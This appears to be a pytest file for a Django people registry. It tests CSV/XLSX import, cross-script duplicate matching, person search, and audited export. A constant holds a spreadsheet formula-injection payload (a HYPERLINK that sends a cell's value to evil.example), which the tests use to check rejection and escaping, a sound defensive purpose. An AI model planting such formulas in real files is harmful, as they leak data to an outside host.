"""Import, find and export people from the console, and the director's web export."""

import csv
import io
import json
import random
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from isenim.core.access import Role
from isenim.core.models import AccessEvent, AuditEvent
from isenim.core.spreadsheets import read_table
from isenim.geo.models import AdminUnit
from isenim.people import importing, services
from isenim.people.matching import Probe
from isenim.people.models import Person, PersonIndex
from isenim.people.search import search_people

BOM = "\ufeff"
FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


# --- Helpers (also used to make the benchmark file, see docs/import-export.md) -----------------------

SURNAMES = [
    "Сапарбаев", "Qodirov", "Жумабаев", "Utepbergenov", "Ҳайитбаев", "Tursınbaev", "Каллибеков",
    "Yusupov", "Абдуллаев", "Kurbanov", "Досжанов", "Allambergenov", "Мамбетов", "Ismailov", "Ерназаров",
    "Rakhimov", "Тажибаев", "Seytmuratov", "Бердимуратов", "Nurımbetov", "Оразымбетов", "Xalmuratov",
]  # fmt: skip
FIRST_NAMES = [
    "Ерлан", "Jasur", "Гулнара", "Aygul", "Бахтияр", "Dilnoza", "Азамат", "Zarina", "Нурлан", "Olga",
    "Айжан", "Timur", "Малика", "Rustam", "Шахноза", "Bekzod", "Ақмарал", "Sardor", "Гүлзада", "Muxammed",
]  # fmt: skip
MIDDLE_NAMES = ["", "Бахтиярович", "Qalbaevna", "Ерланович", "Jumabaevich", "Алиевна", ""]
SOATO = ["1735218", "1735222", ""]


def sample_rows(count: int, *, seed: int = 1) -> list[dict]:
    """Plausible, varied rows in both scripts; ``seed`` makes a different list of people."""
    rng = random.Random(seed)
    rows = []
    for n in range(count):
        born = date(1950, 1, 1) + timedelta(days=rng.randrange(55 * 365))
        rows.append(
            {
                "last_name": rng.choice(SURNAMES),
                "first_name": rng.choice(FIRST_NAMES),
                "middle_name": rng.choice(MIDDLE_NAMES),
                "birth_date": born.strftime("%d.%m.%Y") if n % 2 else born.isoformat(),
                "sex": rng.choice(["M", "F", "м", "ж", "э", ""]),
                "phone": f"+998 9{rng.randrange(10)} {rng.randrange(10**7):07d}" if n % 3 else "",
                "district_soato": rng.choice(SOATO),
                "external_id": f"S{seed}-{n:06d}",
            }
        )
    return rows


def write_sample_csv(path, count: int, *, seed: int = 1) -> Path:
    """A semicolon CSV with BOM, as Excel writes it, of ``count`` sample rows."""
    rows = sample_rows(count, seed=seed)
    with open(path, "w", encoding="utf-8-sig", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)
    return Path(path)


def run(*args) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def csv_file(tmp_path, text: str, name: str = "people.csv") -> str:
    path = tmp_path / name
    path.write_text(BOM + text, encoding="utf-8")
    return str(path)


@pytest.fixture
def districts(db):
    return {
        soato: AdminUnit.objects.create(code=soato, soato=soato, level=level, name_kaa=name, name_en=name)
        for soato, level, name in [
            ("1735", "region", "Karakalpakstan"),
            ("1735218", "district", "Qanlıkól"),
            ("1735222", "district", "Moynaq"),
        ]
    }


@pytest.fixture
def console_user(monkeypatch):
    monkeypatch.setattr(importing.getpass, "getuser", lambda: "nurlan")
    return "cli:nurlan"


def person(last_name, first_name, birth_date="", *, external_id="", **identity) -> Person:
    return services.person_create(
        actor=None,
        data=services.PersonData(
            identity={"last_name": last_name, "first_name": first_name, "birth_date": birth_date, **identity},
            external_id=external_id,
        ),
    )


# --- Import --------------------------------------------------------------------------------------


def test_it_imports_a_csv_with_bom_and_mixed_scripts(tmp_path, districts, console_user):
    path = csv_file(
        tmp_path,
        "Last_Name;first_name;middle_name;birth_date;sex;phone;district_soato;external_id;notes\n"
        "Сапарбаев;Ерлан;Бахтиярович;12.03.1990;м;+998 90 123-45-67;1735218;L-1;seen in Nukus\n"
        "Tursınbaeva;Ayjan;;1994-07-30;f;90 1234567, +998 61 222 00 00;;L-2;\n"
        "Ҳайитбаева;Гүлзада;;;Ж;;1735222;;\n",
    )
    output = run("import-people", path)
    assert "imported 3 / possible duplicates 0 / rejected 0" in output
    assert "ignored columns: notes" in output
    erlan = Person.objects.get(external_id="L-1")
    assert erlan.identity == {
        "last_name": "Сапарбаев",
        "first_name": "Ерлан",
        "middle_name": "Бахтиярович",
        "birth_date": "1990-03-12",
        "phones": ["+998 90 123-45-67"],
    }
    assert (erlan.sex, erlan.birth_year, erlan.home_district) == ("M", 1990, districts["1735218"])
    ayjan = Person.objects.get(external_id="L-2")
    assert ayjan.sex == "F" and ayjan.identity["phones"] == ["90 1234567", "+998 61 222 00 00"]
    assert Person.objects.get(external_id="").sex == "F"
    assert PersonIndex.objects.filter(person=erlan, kind="phone").count() == 1
    assert AuditEvent.objects.filter(action="person.import").count() == 3


def test_it_imports_the_first_sheet_of_an_xlsx_built_with_openpyxl(tmp_path, districts, console_user):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["external_id", "birth_date", "first_name", "last_name", "sex", "district_soato", "phone"])
    sheet.append([1001, date(1988, 5, 17), "Jasur", "Qodirov", "M", 1735222, 998901234567])
    sheet.append([])  # a blank row keeps its number
    sheet.append([1002, "01.02.1979", "Гулнара", "Жумабаева", "Ж", None, None])
    sheet.append([1003, date(2999, 1, 1), "Future", "Person", "F", None, None])
    workbook.create_sheet("other").append(["last_name"])
    path = tmp_path / "people.xlsx"
    workbook.save(path)
    output = run("import-people", str(path))
    assert "imported 2 / possible duplicates 0 / rejected 1" in output
    assert "row 5: rejected: birth_date: in the future" in output
    jasur = Person.objects.get(external_id="1001")
    assert jasur.identity["birth_date"] == "1988-05-17"
    assert jasur.identity["phones"] == ["998901234567"]
    assert jasur.home_district == districts["1735222"]
    assert Person.objects.get(external_id="1002").identity["birth_date"] == "1979-02-01"


def test_it_rejects_a_row_whose_cell_is_a_formula_and_strips_invisible_characters(
    tmp_path, districts, console_user
):
    """A formula's cached value may be empty or stale (it read as an empty surname before): the row is
    rejected with its reason. Zero-width and bidirectional characters never reach the record."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["external_id", "last_name", "first_name"])
    sheet.append(["F-1", '=HYPERLINK("http://x","Qodirov")', "Jasur"])
    sheet.append(["F-2", "Sapar\u200bbaeva", "\u202eAysulu\u202c"])
    path = tmp_path / "formulas.xlsx"
    workbook.save(path)
    output = run("import-people", str(path))
    assert "imported 1 / possible duplicates 0 / rejected 1" in output
    assert "row 2: rejected: last_name: a formula, not a value (type the value itself)" in output
    kept = Person.objects.get(external_id="F-2")
    assert kept.identity["last_name"] == "Saparbaeva" and kept.identity["first_name"] == "Aysulu"
    assert not Person.objects.filter(external_id="F-1").exists()


def test_it_reports_rejected_rows_with_their_numbers_and_reasons(tmp_path, districts, console_user):
    person("Existing", "Person", external_id="E-9")
    path = csv_file(
        tmp_path,
        "last_name,first_name,birth_date,sex,phone,district_soato,external_id\n"
        "Good,One,1990-01-01,M,,,G-1\n"
        ",,1990-01-01,M,,,\n"
        "Bad,Date,31.02.1990,M,,,\n"
        "Bad,Sex,,X,,,\n"
        "Bad,Phone,,,12-34,,\n"
        "Bad,District,,,,9999999,\n"
        "Bad,Region,,,,1735,\n"
        "Bad,Known,,,,,E-9\n"
        "Bad,Repeat,,,,,R-1\n"
        "Bad,Repeat,,,,,R-1\n"
        "Shifted, by a comma,Two,1990-01-01,M,,,\n"
        "Good,Two,,,,,G-2\n",
    )
    output = run("import-people", path)
    assert "imported 2 / possible duplicates 0 / rejected 10" in output
    lines = [line for line in output.splitlines() if line.startswith("row ")]
    assert lines == [
        "row 3: rejected: no last_name or first_name",
        "row 4: rejected: birth_date: not a date (write YYYY-MM-DD or DD.MM.YYYY)",
        "row 5: rejected: sex: write M or F (М, Ж, Э also understood)",
        "row 6: rejected: phone: does not look like a phone number",
        "row 7: rejected: district_soato: no district has the SOATO code 9999999",
        "row 8: rejected: district_soato: 1735 is not a district or city",
        f"row 9: rejected: external_id: already imported as {Person.objects.get(external_id='E-9').code}",
        "row 10: rejected: external_id: repeated in this file (also in row 11)",
        "row 11: rejected: external_id: repeated in this file (also in row 10)",
        "row 12: rejected: the row has 8 cells but the header has 7 columns; birth_date: not a date "
        "(write YYYY-MM-DD or DD.MM.YYYY); sex: write M or F (М, Ж, Э also understood); "
        "phone: does not look like a phone number",
    ]
    assert set(Person.objects.exclude(external_id="E-9").values_list("external_id", flat=True)) == {
        "G-1",
        "G-2",
    }


def test_it_imports_nothing_when_the_import_fails_half_way(tmp_path, districts, console_user, monkeypatch):
    real_import = services.people_import

    def import_then_fail(**kwargs):
        real_import(**kwargs)
        assert Person.objects.count() == 2  # the rows were built and inserted...
        raise RuntimeError("disk full")

    monkeypatch.setattr(services, "people_import", import_then_fail)
    path = csv_file(tmp_path, "last_name,first_name\nOne,Person\nTwo,Person\n")
    with pytest.raises(CommandError, match="nothing was imported"):
        run("import-people", path)
    # ...and rolled back with everything else: people, their index, their audit events.
    assert Person.objects.count() == 0
    assert PersonIndex.objects.count() == 0
    assert not AuditEvent.objects.filter(action="person.import").exists()


def test_it_flags_duplicates_in_the_file_and_in_the_registry(tmp_path, districts, console_user):
    known = person("Сапарбаев", "Ерлан", "1990-03-12")
    path = csv_file(
        tmp_path,
        "last_name;first_name;birth_date\n"
        "SAPARBAYEV;YERLAN;12.03.1990\n"  # the registry's Сапарбаев Ерлан, in passport Latin
        "Qodirov;Jasur;1988-05-17\n"
        "Кодиров;Жасур;17.05.1988\n"  # row 3 again, in Cyrillic
        "Saparbaev;Erlan;1991-01-01\n",  # same name, another birth date: another person
    )
    output = run("import-people", path)
    assert "imported 2 / possible duplicates 2 / rejected 0" in output
    imported = {p.display_name(): p.code for p in Person.objects.exclude(pk=known.pk)}
    assert set(imported) == {"Qodirov Jasur", "Saparbaev Erlan"}
    assert f"row 2: possible duplicate of {known.code} (score " in output
    assert f"row 4: possible duplicate of {imported['Qodirov Jasur']} (row 3 of this file)" in output


def test_it_flags_the_people_search_people_would_score_as_duplicates(db):
    existing = [
        person("Сапарбаев", "Ерлан", "1990-03-12", middle_name="Бахтиярович"),
        person("Saparbaev", "Erlan", "1990-03-12"),
        person("Saparova", "Gulnara", "1990-03-12"),
        person("Qodirov", "Jasur", "1988-05-17", phones=["+998 90 123 45 67"]),
        person("Qodirov", "Jasur", "1988-05-18"),
    ]
    probes = [
        Probe("SAPARBAYEV YERLAN", "1990-03-12"),
        Probe("Saparbaev Erlan Baxtiyarovich", "1990-03-12"),
        Probe("Kodirov Jasur", "1988-05-17", phone="901234567"),
        Probe("Qodirov Jasur", ""),
        Probe("Someone Else", "1990-03-12"),
    ]
    batched = importing.registry_duplicates(probes)
    for probe, matches in zip(probes, batched, strict=True):
        one_by_one = [m for m in search_people(probe, limit=50) if m.score >= importing.DUPLICATE_SCORE]
        assert [(m.code, m.score) for m in matches] == [(m.code, m.score) for m in one_by_one], probe
    assert {m.code for m in batched[0]} == {existing[0].code, existing[1].code}
    assert batched[3] == [] and batched[4] == []


def test_it_records_the_actor_or_the_console_user(tmp_path, staff, console_user):
    director = staff[Role.DIRECTOR]
    run("import-people", csv_file(tmp_path, "first_name\nAyjan\n"), "--actor", director.username)
    event = AuditEvent.objects.get(action="person.import")
    assert event.actor == director and "operator" not in event.after
    assert Person.objects.get().created_by == director
    run("import-people", csv_file(tmp_path, "first_name\nMalika\n", "second.csv"))
    event = AuditEvent.objects.filter(action="person.import").order_by("-id").first()
    assert event.actor is None and event.after["operator"] == "cli:nurlan"
    assert event.after["identity"] == "•••"
    check = AccessEvent.objects.filter(kind="search").order_by("-id").first()
    assert check.detail == "import-people duplicate check: 1 rows; cli:nurlan"


def test_it_refuses_an_actor_who_is_unknown_inactive_or_without_the_right(tmp_path, staff, console_user):
    path = csv_file(tmp_path, "first_name\nAyjan\n")
    staff[Role.LAWYER].is_active = False
    staff[Role.LAWYER].save()
    for username in ("nobody", staff[Role.LAWYER].username, staff[Role.ADMINISTRATOR].username):
        with pytest.raises(CommandError):
            run("import-people", path, "--actor", username)
    assert not Person.objects.exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        ("last_name;first_name\nИванов;Иван\n".encode("cp1251"), "not UTF-8"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old excel", ".xls"),
        (b"PK\x03\x04broken zip", "XLSX"),
        (b"nom,name\nX,Y\n", "neither a last_name nor a first_name column"),
        (b"last_name,last_name\nX,Y\n", "appears twice"),
    ],
)
def test_it_stops_with_a_message_when_the_file_cannot_be_used(tmp_path, db, content, message):
    path = tmp_path / "people.csv"
    path.write_bytes(content)
    with pytest.raises(CommandError, match=message):
        run("import-people", str(path))


def test_it_stops_with_a_message_when_the_file_is_missing(tmp_path, db):
    with pytest.raises(CommandError, match="cannot open"):
        run("import-people", str(tmp_path / "missing.csv"))


def test_it_changes_nothing_on_a_dry_run(tmp_path, db, console_user):
    output = run(
        "import-people", csv_file(tmp_path, "last_name,first_name\nOne,Person\nTwo,Person\n"), "--dry-run"
    )
    assert "would import 2 / possible duplicates 0 / rejected 0" in output
    assert not Person.objects.exists() and not AuditEvent.objects.exists()


def test_it_checks_duplicates_in_a_few_queries_whatever_the_length_of_the_file(
    tmp_path, districts, console_user, django_assert_max_num_queries
):
    call_command(
        "import-people", str(write_sample_csv(tmp_path / "first.csv", 200, seed=1)), stdout=io.StringIO()
    )
    twins = sample_rows(200, seed=1)[:50]  # 50 people already in the registry, under new external ids
    rows = sample_rows(300, seed=2) + [{**row, "external_id": f"T-{n}"} for n, row in enumerate(twins)]
    path = tmp_path / "second.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    # 40 before the audit chain; its head is read and moved once for the whole batch of import events (+2);
    # the name equivalents are checked to be current before the duplicate check and the index (+2).
    with django_assert_max_num_queries(44):
        output = run("import-people", str(path))
    assert "imported 300 / possible duplicates 50 / rejected 0" in output
    assert Person.objects.count() == 200 + 300


def test_it_reads_comma_and_semicolon_csv_keeping_spreadsheet_row_numbers(tmp_path):
    comma = tmp_path / "comma.csv"
    comma.write_text('last_name,first_name\n\n"Two\nlines",X\nA;B,C\n', encoding="utf-8")
    table = read_table(comma)
    assert table.header == ["last_name", "first_name"]
    assert table.rows == [(3, ["Two\nlines", "X"]), (4, ["A;B", "C"])]
    semicolon = tmp_path / "semicolon.csv"
    semicolon.write_text(BOM + "last_name;first_name\nA,B;C\n", encoding="utf-8")
    assert read_table(semicolon).rows == [(2, ["A,B", "C"])]


# --- Find ----------------------------------------------------------------------------------------


@pytest.fixture
def registry(tmp_path, db, console_user):
    path = csv_file(
        tmp_path,
        "last_name;first_name;birth_date\n"
        "Сапарбаев;Ерлан;12.03.1990\n"
        "Сапарова;Гулнара;01.01.1985\n"
        "Ерланов;Бахтияр;02.02.1992\n"
        "Saparbaeva;Aygul;03.03.1993\n",
        "registry.csv",
    )
    run("import-people", path)
    return {p.display_name(): p.code for p in Person.objects.all()}


def test_it_finds_a_person_whatever_the_script(registry):
    found = json.loads(run("find-person", "SAPARBAYEV YERLAN", "--json"))
    assert found[0]["code"] == registry["Сапарбаев Ерлан"]
    assert found[0]["display_name"] == "Сапарбаев Ерлан"
    assert all(set(hit) == {"code", "score", "display_name"} for hit in found)
    assert [hit["score"] for hit in found] == sorted((hit["score"] for hit in found), reverse=True)
    with_birth = json.loads(run("find-person", "SAPARBAYEV YERLAN", "--birth-date", "12.03.1990", "--json"))
    assert with_birth[0]["score"] > found[0]["score"]
    assert len(json.loads(run("find-person", "Сапар", "--limit", "1", "--json"))) <= 1
    text = run("find-person", "Saparbaev Erlan")
    assert text.splitlines()[0].startswith(registry["Сапарбаев Ерлан"] + "  ")


def test_it_records_each_search_without_the_query(registry):
    before = AccessEvent.objects.filter(kind="search").count()
    run("find-person", "SAPARBAYEV YERLAN", "--json")
    event = AccessEvent.objects.filter(kind="search").order_by("-id").first()
    assert AccessEvent.objects.filter(kind="search").count() == before + 1
    assert event.target_type == "people.person"
    assert "SAPARBAYEV" not in event.detail.upper() and "Сапар" not in event.detail
    assert event.detail.startswith("find-person: ") and event.detail.endswith("cli:nurlan")


def test_it_answers_a_batch_one_line_per_line(registry, tmp_path):
    batch = tmp_path / "names.txt"
    batch.write_text(
        BOM + "SAPARBAYEV YERLAN\n\nNobody Atall\tnot a date\r\nсапарбаев ерлан\t12.03.1990\n",
        encoding="utf-8",
    )
    before = AccessEvent.objects.filter(kind="search").count()
    lines = run("find-person", "--batch", str(batch), "--json").splitlines()
    assert len(lines) == 4
    answers = [json.loads(line) for line in lines]
    assert answers[0][0]["code"] == answers[3][0]["code"] == registry["Сапарбаев Ерлан"]
    assert answers[1] == [] and answers[2] == []
    assert AccessEvent.objects.filter(kind="search").count() == before + 3  # the empty line searched nothing


# --- Export --------------------------------------------------------------------------------------


@pytest.fixture
def exported_people(districts):
    hostile = services.person_create(
        actor=None,
        data=services.PersonData(
            identity={
                "last_name": FORMULA,
                "first_name": "Ayjan",
                "birth_date": "1994-07-30",
                "phones": ["+998 90 1"],
            },
            sex="F",
            home_district_id=districts["1735218"].pk,
            external_id="@x",
        ),
    )
    plain = person("Сапарбаев", "Ерлан", "1990-03-12")
    return hostile, plain


def test_it_exports_csv_with_a_bom_and_formulas_escaped(exported_people, tmp_path, staff, console_user):
    hostile, plain = exported_people
    path = tmp_path / "out.csv"
    run("export-people", "--format", "csv", "--output", str(path), "--actor", staff[Role.DIRECTOR].username)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert path.stat().st_mode & 0o077 == 0  # readable by its owner only
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == [
        "code", "last_name", "first_name", "middle_name", "birth_date", "birth_year", "sex", "phone",
        "home_district", "external_id", "registered",
    ]  # fmt: skip
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code[hostile.code][1] == "'" + FORMULA
    assert by_code[hostile.code][4:10] == ["1994-07-30", "1994", "F", "'+998 90 1", "Qanlıkól", "'@x"]
    assert by_code[plain.code][1:3] == ["Сапарбаев", "Ерлан"]
    event = AccessEvent.objects.get(kind="export")
    assert event.actor == staff[Role.DIRECTOR] and event.detail == "export-people csv: 2 people; cli:nurlan"


def test_it_exports_xlsx_that_openpyxl_reads_back(exported_people, tmp_path, db, console_user):
    hostile, _plain = exported_people
    path = tmp_path / "out.xlsx"
    run("export-people", "--format", "xlsx", "--output", str(path), "--language", "en")
    sheet = load_workbook(path).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    name = rows[hostile.code][1]
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA, "s", True)
    assert rows[hostile.code][4].value.date() == date(1994, 7, 30)
    assert rows[hostile.code][5].value == 1994  # the year of birth, also for people known by year only
    assert rows[hostile.code][8].value == "Qanlıkól"
    assert AccessEvent.objects.get(kind="export").actor is None


def test_it_needs_an_output_file_for_xlsx(db):
    with pytest.raises(CommandError, match="--output"):
        run("export-people", "--format", "xlsx")
    assert not AccessEvent.objects.exists()


def test_it_asks_for_the_password_again_before_the_web_export(client, director):
    client.force_login(director)
    url = reverse("people:people_export")
    for response in (client.get(url), client.post(url, {"file_format": "csv"})):
        assert response.status_code == 302
        assert reverse("account_reauthenticate") in response["Location"]
    assert not AccessEvent.objects.exists()


def test_it_hides_the_web_export_from_every_other_role(client, staff, recently_authenticated):
    url = reverse("people:people_export")
    for role, user in staff.items():
        if role == Role.DIRECTOR:
            continue
        client.force_login(user)
        recently_authenticated(user)
        assert client.get(url).status_code == 404, role
        assert client.post(url, {"file_format": "csv"}).status_code == 404, role
    assert not AccessEvent.objects.exists()


def test_it_warns_then_streams_the_web_export_and_records_it(
    client, director, recently_authenticated, exported_people
):
    hostile, _plain = exported_people
    client.force_login(director)
    recently_authenticated(director)
    url = reverse("people:people_export")
    page = client.get(url)
    assert page.status_code == 200
    assert b'data-testid="export-warning"' in page.content and b'value="xlsx"' in page.content
    assert "no-store" in page["Cache-Control"]
    assert not AccessEvent.objects.exists()

    as_csv = client.post(url, {"file_format": "csv"})
    assert as_csv.status_code == 200 and as_csv.streaming
    assert as_csv["Content-Disposition"].startswith('attachment; filename="isenim-people-')
    assert "no-store" in as_csv["Cache-Control"]
    body = b"".join(as_csv.streaming_content)
    assert body.startswith(b"\xef\xbb\xbfcode,") and ("'" + FORMULA).replace('"', '""').encode() in body

    as_xlsx = client.post(url, {"file_format": "xlsx"})
    assert as_xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(b"".join(as_xlsx.streaming_content))).active
    assert [cell.value for cell in next(sheet.iter_rows(max_row=1))][:2] == ["code", "last_name"]
    assert sheet.max_row == 3

    events = AccessEvent.objects.filter(kind="export").order_by("id")
    assert [(e.actor, e.detail) for e in events] == [
        (director, "export-people csv: 2 people; web"),
        (director, "export-people xlsx: 2 people; web"),
    ]
    assert hostile.code not in "".join(e.detail for e in events)
